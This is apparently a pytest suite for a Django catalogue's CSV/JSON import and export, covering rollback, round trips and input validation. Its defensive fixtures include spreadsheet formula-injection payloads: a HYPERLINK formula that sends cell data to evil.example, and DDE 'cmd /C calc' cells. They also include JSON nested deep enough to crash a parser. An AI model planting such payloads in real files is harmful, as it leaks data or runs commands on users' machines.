"""Bulk import and export of the catalogue: dry runs, atomicity, idempotence and
a lossless round trip."""

import csv
import datetime
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test.utils import CaptureQueriesContext

from licenses.models import Family
from portal.publishing.models import State
from portal.publishing.policy import SYSTEM
from portal.text.json_input import MAX_DEPTH
from projects import imports
from projects.catalogue_format import neutralise_formula, restore_formula
from projects.exports import catalogue_rows, export_csv, export_json
from projects.imports import ImportFileError, import_catalogue, read_file
from projects.models import LicenseChange, Project, Release

D = datetime.date

HEADER = "slug,name,summary,license_expression,category,languages,releases\n"


@pytest.fixture
def licenses(make_license):
    make_license("Apache-2.0")
    make_license("MIT")
    make_license(
        "BUSL-1.1",
        family=Family.SOURCE_AVAILABLE,
        change_cap_months=48,
    )


@pytest.fixture
def catalogue(licenses, make_project, make_release, make_category, make_language):
    backend = make_category("Backend")
    python = make_language("Python")
    rust = make_language("Rust")
    snuba = make_project(
        "Snuba",
        license_expression="BUSL-1.1",
        category=backend,
        languages=[python],
        description="Fast *store*; with | pipes and ; semicolons.",
        repository_url="https://github.com/getsentry/snuba",
        featured=True,
        position=3,
    )
    make_release(snuba, "23.11.0", released_on=D(2023, 11, 15))
    make_release(
        snuba,
        "24.1.0",
        released_on=D(2024, 1, 10),
        change_date=D(2026, 1, 1),
        state=State.DRAFT,
    )
    LicenseChange.objects.create(
        project=snuba, license_expression="BSD-3-Clause", note="a; b | c"
    )
    LicenseChange.objects.create(
        project=snuba,
        effective_on=D(2019, 11, 6),
        license_expression="BUSL-1.1",
        licensor="Functional Software, Inc.",
        licensed_work="Sentry",
        additional_use_grant="Any use except a monitoring service.",
        change_license="Apache-2.0",
        change_after_months=36,
    )
    make_project(
        "Relay",
        license_expression="Apache-2.0 OR MIT",
        languages=[rust],
        state=State.DRAFT,
        publish_at=datetime.datetime(2030, 1, 1, 9, tzinfo=datetime.UTC),
        status=Project.Status.MAINTENANCE,
    )


def run(content, fmt="csv", **options):
    options.setdefault("user", SYSTEM)
    return import_catalogue(read_file(content, fmt), fmt=fmt, **options)


def test_csv_import_creates_projects_with_languages_and_releases(licenses, db):
    report = run(
        HEADER.replace("\n", ",change_license,change_after_months\n")
        + "snuba,Snuba,A store.,busl-1.1,,python;rust,"
        "23.11.0|2023-11-15|BUSL-1.1,mpl-2.0,36\n"
    )

    assert report.ok and (report.created, report.updated) == (1, 0)
    snuba = Project.objects.get(slug="snuba")
    assert snuba.license_expression == "BUSL-1.1"
    assert [lic.spdx_id for lic in snuba.licenses.all()] == ["BUSL-1.1"]
    assert sorted(lang.slug for lang in snuba.languages.all()) == ["python", "rust"]
    release = snuba.releases.get()
    assert (release.converts_on, release.converts_to) == (D(2026, 11, 15), "MPL-2.0")
    assert snuba.license_changes.get().change_license == "MPL-2.0"
    assert snuba.state == State.DRAFT  # imports start as drafts unless told


def test_dry_run_reports_every_error_by_line_and_writes_nothing(
    licenses, make_category, make_project
):
    make_category("Backend")
    make_project("Taken", slug="taken")
    content = (
        "slug,name,summary,license_expression,category,repository_url\n"
        "good,Good,Fine.,MIT,backend,https://example.org/good\n"
        "bad-expr,Bad,Oops.,Apache-2.0 ORR MIT,,\n"
        "bad-url,Bad,Oops.,MIT,,not a url\n"
        "good,Again,Twice.,MIT,,\n"
        "no-cat,Bad,Oops.,MIT,frontend,\n"
        "Not A Slug!,Bad,Oops.,MIT,,\n"
    )

    report = run(content, dry_run=True)

    errors = {(e.line, e.field) for e in report.errors}
    assert errors == {
        (3, "license_expression"),
        (4, "repository_url"),
        (5, "slug"),
        (6, "category"),
        (7, "slug"),
    }
    messages = {e.line: str(e) for e in report.errors}
    assert messages[5] == "line 5 (good): slug: 'good' already appears at line 2."
    assert "Unknown category 'frontend'. Known categories: backend." in messages[6]
    assert "ORR" in messages[3]
    assert not Project.objects.filter(slug="good").exists()


def test_dry_run_of_a_clean_file_says_what_would_happen(licenses, db):
    report = run(HEADER + "snuba,Snuba,A store.,MIT,,,\n", dry_run=True)

    assert report.ok
    assert report.summary() == (
        "1 row(s): 1 project(s) would be created, 0 updated, 0 unchanged. "
        "Dry run: nothing was written."
    )
    assert not Project.objects.exists()


def test_one_bad_row_rolls_the_whole_import_back(licenses, make_project):
    make_project("Existing", slug="existing", summary="Before.")
    content = (
        HEADER + "existing,Existing,After.,MIT,,,\n"
        "new,New,Fine.,MIT,,,\n"
        "broken,Broken,Bad release.,MIT,,,1.0|not-a-date|MIT\n"
    )

    report = run(content)

    assert [str(e) for e in report.errors] == [
        "line 4 (broken): releases[1.0]: 'not-a-date' is not a date (YYYY-MM-DD)."
    ]
    assert Project.objects.get(slug="existing").summary == "Before."
    assert not Project.objects.filter(slug__in=["new", "broken"]).exists()
    assert not Release.objects.exists()


def test_release_beyond_the_cap_is_reported_on_its_field(licenses, db):
    content = HEADER + "s,S,Fine.,BUSL-1.1,,,1.0|2023-01-10|BUSL-1.1|2028-01-01\n"

    (error,) = run(content).errors

    assert error.field == "releases[1.0].change_date"
    assert "2027-01-10" in error.message


def test_reimporting_the_same_file_changes_nothing(catalogue):
    text = export_csv(catalogue_rows())
    stamps = dict(Project.objects.values_list("slug", "updated_at"))

    report = run(text)

    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert dict(Project.objects.values_list("slug", "updated_at")) == stamps


@pytest.mark.parametrize(
    ("fmt", "export"), [("csv", export_csv), ("json", export_json)]
)
def test_export_then_import_round_trips_with_nothing_lost(catalogue, fmt, export):
    before = catalogue_rows()
    text = export(before)
    Release.objects.all().delete()
    LicenseChange.objects.all().delete()
    Project.objects.all().delete()

    report = run(text, fmt)

    assert report.ok, [str(e) for e in report.errors]
    assert report.created == 2
    assert catalogue_rows() == before
    snuba = Project.objects.get(slug="snuba")
    assert snuba.releases.get(version="24.1.0").converts_on == D(2026, 1, 1)


# Cells a spreadsheet runs as formulas (OWASP, "CSV Injection"), and text that
# only looks neutralised already.
PROJECT_FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?"&A1,"Snuba")',
    "summary": "+cmd|' /C calc'!A0",
    "description": "- a Markdown list\n- of two items",
}
TERMS_FORMULAS = {
    "licensor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "licensed_work": "-2+3",
    "additional_use_grant": "'=already quoted",
}
FORMULAS = {**PROJECT_FORMULAS, **TERMS_FORMULAS}


def write_formulas():
    Project.objects.filter(slug="snuba").update(**PROJECT_FORMULAS)
    LicenseChange.objects.filter(license_expression="BUSL-1.1").update(**TERMS_FORMULAS)


def test_csv_export_writes_formulas_as_text(catalogue):
    write_formulas()
    LicenseChange.objects.filter(note="a; b | c").update(note="=1+1")
    Release.objects.filter(version="23.11.0").update(version="-1")
    rows = catalogue_rows()

    exported = csv.DictReader(io.StringIO(export_csv(rows)))
    cells = {row["slug"]: row for row in exported}

    snuba = cells["snuba"]
    assert {name: snuba[name] for name in FORMULAS} == {
        name: f"'{value}" for name, value in FORMULAS.items()
    }
    assert snuba["releases"].startswith("'-1|2023-11-15")
    assert snuba["license_history"].startswith("|BSD-3-Clause|=1+1")  # not first
    assert cells["relay"]["name"] == "Relay"  # any other cell is as it is
    # JSON is exact.
    snuba_json = json.loads(export_json(rows))["projects"][1]
    assert {name: snuba_json[name] for name in FORMULAS} == FORMULAS


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tcode", "'\tcode"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("''-1", "'''-1"),
        ("'quoted", "'quoted"),
        ("'", "'"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_a_neutralised_cell_reads_back_as_it_was(cell, written):
    assert neutralise_formula(cell) == written
    assert restore_formula(written) == cell


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_formula_cells_round_trip_with_nothing_lost(catalogue, fmt):
    write_formulas()
    Release.objects.filter(version="23.11.0").update(version="-1")
    before = catalogue_rows()
    text = export_csv(before) if fmt == "csv" else export_json(before)
    Release.objects.all().delete()
    LicenseChange.objects.all().delete()
    Project.objects.all().delete()

    report = run(text, fmt)

    assert report.ok, [str(e) for e in report.errors]
    assert catalogue_rows() == before


def test_changed_row_updates_only_that_project(catalogue):
    rows = catalogue_rows()
    rows[0]["summary"] = "A new summary."

    report = run(export_json(rows), "json")

    assert (report.updated, report.unchanged) == (1, 1)
    assert Project.objects.get(slug=rows[0]["slug"]).summary == "A new summary."


@pytest.mark.parametrize(
    ("content", "fmt", "message"),
    [
        ("{not json", "json", "The JSON is malformed at line 1"),
        ('{"a": 1}', "json", "A JSON file holds a list of projects"),
        ("[1]", "json", "Item 1 is not an object."),
        ("slug,name,summary,license_expression,colour\n", "csv", "colour"),
        ("slug,name\nx,y\n", "csv", "Missing required column(s): summary"),
        ("", "csv", "The CSV file is empty"),
        (b"slug,name\xff", "csv", "not UTF-8"),
        ("a", "xml", "Unknown format 'xml'"),
    ],
)
def test_unreadable_files_are_refused_with_a_reason(db, content, fmt, message):
    with pytest.raises(ImportFileError) as error:
        read_file(content, fmt)
    assert message in str(error.value)


# Python's JSON parser recurses once per level: this deep, it ran out of stack
# (a RecursionError: a 500 in the admin, a traceback from the command).
DEEP_JSON = {
    "arrays": "[" * 100_000,
    "objects": '{"projects": ' + '{"a":' * 100_000,
    "one too many": "[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1),
}
TOO_DEEP = f"The JSON nests deeper than {MAX_DEPTH} levels."


@pytest.mark.parametrize("content", DEEP_JSON.values(), ids=DEEP_JSON)
def test_deeply_nested_json_is_refused_with_a_reason(db, content):
    with pytest.raises(ImportFileError, match=TOO_DEEP):
        read_file(content, "json")


def test_command_refuses_deeply_nested_json(licenses, tmp_path, make_staff):
    make_staff("bot", "Editor")
    path = tmp_path / "catalogue.json"
    path.write_text(DEEP_JSON["arrays"], encoding="utf-8")

    with pytest.raises(CommandError, match=TOO_DEEP):
        call_command("import_projects", str(path), "--user", "bot")


def test_brackets_inside_json_strings_are_text(licenses):
    item = {
        "slug": "x",
        "name": "X",
        "summary": "[" * 200,
        "license_expression": "MIT",
        "description": "{" * 5000,
    }

    report = run(json.dumps({"projects": [item]}), "json")

    assert report.ok, [str(e) for e in report.errors]
    assert Project.objects.get().description == "{" * 5000


def test_json_rows_with_wrong_types_are_errors_not_crashes(licenses):
    items = [
        {
            "slug": "x",
            "name": "X",
            "summary": "S",
            "license_expression": "MIT",
            "featured": "perhaps",
            "position": "-1",
            "languages": "python",
            "releases": [{"version": "1", "colour": "red"}],
        },
        {"slug": "y", "name": 3, "summary": "S", "license_expression": "MIT"},
    ]

    report = run(json.dumps(items), "json")

    assert {(e.line, e.field) for e in report.errors} == {
        (1, "featured"),
        (1, "position"),
        (1, "releases"),
        (2, "name"),
    }
    assert all(e.unit == "item" for e in report.errors)


def test_command_imports_with_progress_and_author(licenses, tmp_path, make_staff):
    make_staff("bot", "Editor")
    path = tmp_path / "catalogue.csv"
    path.write_text(
        HEADER + "".join(f"p{n},P{n},S.,MIT,,,\n" for n in range(250)),
        encoding="utf-8",
    )
    out, err = io.StringIO(), io.StringIO()

    call_command("import_projects", str(path), "--user", "bot", stdout=out, stderr=err)

    assert "250 row(s): 250 project(s) were created" in out.getvalue()
    assert "250/250" in err.getvalue()
    assert Project.objects.count() == 250


def test_command_fails_with_the_errors_and_writes_nothing(
    licenses, tmp_path, make_staff
):
    make_staff("root", "superuser")
    path = tmp_path / "catalogue.csv"
    path.write_text(HEADER + "a,A,S.,NOPE-1.0,,,\n", encoding="utf-8")
    err = io.StringIO()

    with pytest.raises(CommandError, match="1 error"):
        call_command("import_projects", str(path), "--user", "root", stderr=err)

    assert "line 2 (a): license_expression:" in err.getvalue()
    assert not Project.objects.exists()


def test_command_refuses_an_unknown_user_and_a_missing_file(
    licenses, tmp_path, make_staff, django_user_model
):
    make_staff("root", "superuser")
    django_user_model.objects.create_user("reader")
    path = tmp_path / "catalogue.csv"
    path.write_text(HEADER, encoding="utf-8")
    with pytest.raises(CommandError, match="--user"):
        call_command("import_projects", str(path))
    with pytest.raises(CommandError, match="No active user named 'ghost'"):
        call_command("import_projects", str(path), "--user", "ghost")
    with pytest.raises(CommandError, match="'reader' may not import projects"):
        call_command("import_projects", str(path), "--user", "reader")
    with pytest.raises(CommandError, match="Cannot read"):
        call_command("import_projects", str(tmp_path / "missing.csv"), "--user", "root")
    with pytest.raises(CommandError, match="Cannot tell the format"):
        call_command(
            "import_projects", str(tmp_path / "catalogue.txt"), "--user", "root"
        )


def test_export_command_writes_the_catalogue(catalogue, tmp_path):
    path = tmp_path / "out.json"

    call_command("export_projects", str(path), stderr=io.StringIO())

    data = json.loads(path.read_text(encoding="utf-8"))
    assert [p["slug"] for p in data["projects"]] == ["relay", "snuba"]
    relay = data["projects"][0]
    assert relay["state"] == "draft" and relay["publish_at"].startswith("2030-01-01")


def test_twice_listed_version_or_history_day_is_an_error(licenses, db):
    content = (
        "slug,name,summary,license_expression,releases,license_history\n"
        "a,A,S.,MIT,1.0|2023-01-01;1.0|2023-02-01,2019-11-06|MIT;2019-11-06|MIT\n"
    )

    fields = {e.field for e in run(content).errors}

    assert fields == {"releases[1.0]", "license_history[2019-11-06]"}
    assert not Project.objects.exists()


def test_a_row_lists_all_its_errors_even_with_an_unknown_category(licenses, db):
    content = (
        "slug,name,summary,license_expression,category,repository_url\n"
        "many,Many,Oops.,Apache-2.0 ORR MIT,frontend,not a url\n"
    )

    report = run(content, dry_run=True)

    assert {(e.line, e.field) for e in report.errors} == {
        (2, "category"),
        (2, "license_expression"),
        (2, "repository_url"),
    }


def test_blank_state_and_status_take_the_documented_defaults(licenses, db):
    content = (
        "slug,name,summary,license_expression,state,status\nblank,Blank,Fine.,MIT,,\n"
    )

    report = run(content)

    assert report.ok, [str(e) for e in report.errors]
    project = Project.objects.get(slug="blank")
    assert (project.state, project.status) == (State.DRAFT, "active")


def test_blank_state_keeps_an_existing_projects_state(licenses, make_project):
    make_project("Kept", slug="kept", state=State.REVIEW)
    content = "slug,name,summary,license_expression,state\nkept,Kept,New.,MIT,\n"

    report = run(content)

    assert report.ok, [str(e) for e in report.errors]
    kept = Project.objects.get(slug="kept")
    assert (kept.summary, kept.state) == ("New.", State.REVIEW)


def test_a_file_goes_in_chunks_with_the_same_outcome(licenses, monkeypatch, db):
    """Rows go in chunks (memory holds one chunk's objects): a slug repeated in
    a later chunk is still an error, and each chunk's releases, links and
    history are written."""
    monkeypatch.setattr(imports, "CHUNK_ROWS", 2)
    rows = "".join(
        f"p{n},P {n},S.,MIT,,python,1.0|2024-01-0{n + 1}|MIT\n" for n in range(5)
    )
    repeated = run(HEADER + rows + "p0,Again,S.,MIT,,,\n")
    assert [(e.line, e.field) for e in repeated.errors] == [(7, "slug")]
    assert not Project.objects.exists()

    report = run(HEADER + rows)
    assert report.ok and report.created == 5
    assert Release.objects.count() == 5
    assert Project.history.filter(history_type="+").count() == 5
    assert set(
        Project.objects.values_list("languages__slug", flat=True).distinct()
    ) == {"python"}
    again = run(HEADER + rows.replace("P 4", "P four"))
    assert (again.updated, again.unchanged) == (1, 4)


BULK_HEADER = (
    "slug,name,summary,license_expression,languages,state,releases,"
    "license_history,change_license,change_after_months\n"
)


def bulk_rows(prefix: str, count: int) -> str:
    """Rows creating projects, each with a language, two releases and, one in
    two, a BUSL grant from its beginning (in its history, then its terms
    changed by the terms columns)."""
    rows = []
    for n in range(count):
        releases = f"1.0|2024-01-15|{{x}};2.0|2025-03-0{1 + n % 9}|{{x}}"
        if n % 2:
            rows.append(
                f"{prefix}{n},P {n},S.,BUSL-1.1,python,published,"
                + releases.format(x="BUSL-1.1")
                + ",|BUSL-1.1|Relicensed||||Apache-2.0||36,Apache-2.0,24\n"
            )
        else:
            rows.append(
                f"{prefix}{n},P {n},S.,MIT,python;rust,published,"
                + releases.format(x="MIT")
                + ",,,\n"
            )
    return "".join(rows)


# What a chunk of new projects costs, whatever its number of rows: the look for
# the projects it names, the ids of the new ones, the ids and one insert each
# of history steps and releases, one insert of projects (a dry run stops there;
# the rest is dropped), of license links and language links, the ids and the
# insert of the history records of each model (project, step, release), and
# the insert of the project records' languages with the read of the languages
# they list.
QUERIES_PER_CHUNK = 17
QUERIES_PER_DRY_CHUNK = 7


@pytest.mark.parametrize(
    ("dry_run", "per_chunk"),
    [(False, QUERIES_PER_CHUNK), (True, QUERIES_PER_DRY_CHUNK)],
)
def test_an_import_costs_a_fixed_number_of_queries_per_chunk(
    licenses, make_language, monkeypatch, db, dry_run, per_chunk
):
    make_language("Python")
    make_language("Rust")
    monkeypatch.setattr(imports, "CHUNK_ROWS", 10)
    counts = []
    for prefix, rows in (("a", 10), ("b", 30)):
        with CaptureQueriesContext(connection) as queries:
            report = run(BULK_HEADER + bulk_rows(prefix, rows), dry_run=dry_run)
        assert report.ok and report.created == rows, report.errors
        counts.append(len(queries))
    ten, thirty = counts
    assert thirty - ten == 2 * per_chunk, counts


def test_new_projects_imported_in_bulk_have_their_terms_and_conversions(
    licenses, make_language, make_staff, db
):
    make_language("Python")
    make_language("Rust")
    editor = make_staff("publisher", role="Publisher")
    report = run(BULK_HEADER + bulk_rows("p", 4), user=editor)

    assert report.ok and report.created == 4
    busl = Project.objects.get(slug="p1")
    (grant,) = busl.license_changes.all()
    assert (grant.effective_on, grant.note) == (None, "Relicensed")
    assert (grant.change_license, grant.change_after_months) == ("Apache-2.0", 24)
    assert [
        (r.version, r.converts_on, r.converts_to)
        for r in busl.releases.order_by("version")
    ] == [
        ("1.0", D(2026, 1, 15), "Apache-2.0"),
        ("2.0", D(2027, 3, 2), "Apache-2.0"),
    ]
    mit = Project.objects.get(slug="p0")
    assert not mit.license_changes.exists()
    assert {lang.slug for lang in mit.languages.all()} == {"python", "rust"}
    assert [lic.spdx_id for lic in mit.licenses.all()] == ["MIT"]
    # One history record per item, by its author.
    for model, count in ((Project, 4), (LicenseChange, 2), (Release, 8)):
        records = model.history.filter(history_type="+")
        assert records.count() == count
        assert set(records.values_list("history_user", flat=True)) == {editor.pk}
    assert list(
        Project.history.get(slug="p0")
        .languages.values_list("language__slug", flat=True)
        .order_by("language__slug")
    ) == ["python", "rust"]


def test_a_value_refused_once_is_refused_on_every_row(licenses, db):
    """A field does not check again a value it accepted: one it refused is
    reported on each row that holds it, next to rows where it is fine."""
    header = "slug,name,summary,license_expression,repository_url\n"
    report = run(
        header
        + "a,A,S.,MIT,https://example.org/a\n"
        + "b,B,S.,MIT,not a url\n"
        + "c,C,S.,MIT,https://example.org/a\n"
        + "d,D,S.,MIT,not a url\n"
    )
    assert [(e.line, e.slug, e.field) for e in report.errors] == [
        (3, "b", "repository_url"),
        (5, "d", "repository_url"),
    ]
    assert (
        report.errors[0].message == report.errors[1].message == ("Enter a valid URL.")
    )


def test_new_project_ids_follow_those_already_used(licenses, make_project, db):
    """Ids are taken before the insert: after a deleted project's, never its."""
    make_project("Gone").delete()
    kept = make_project("Kept")
    report = run(HEADER + "n1,N1,S.,MIT,,,\nn2,N2,S.,MIT,,,\n")
    assert report.ok
    first, second = Project.objects.filter(slug__in=["n1", "n2"]).order_by("pk")
    assert kept.pk < first.pk < second.pk
    assert make_project("Later").pk > second.pk
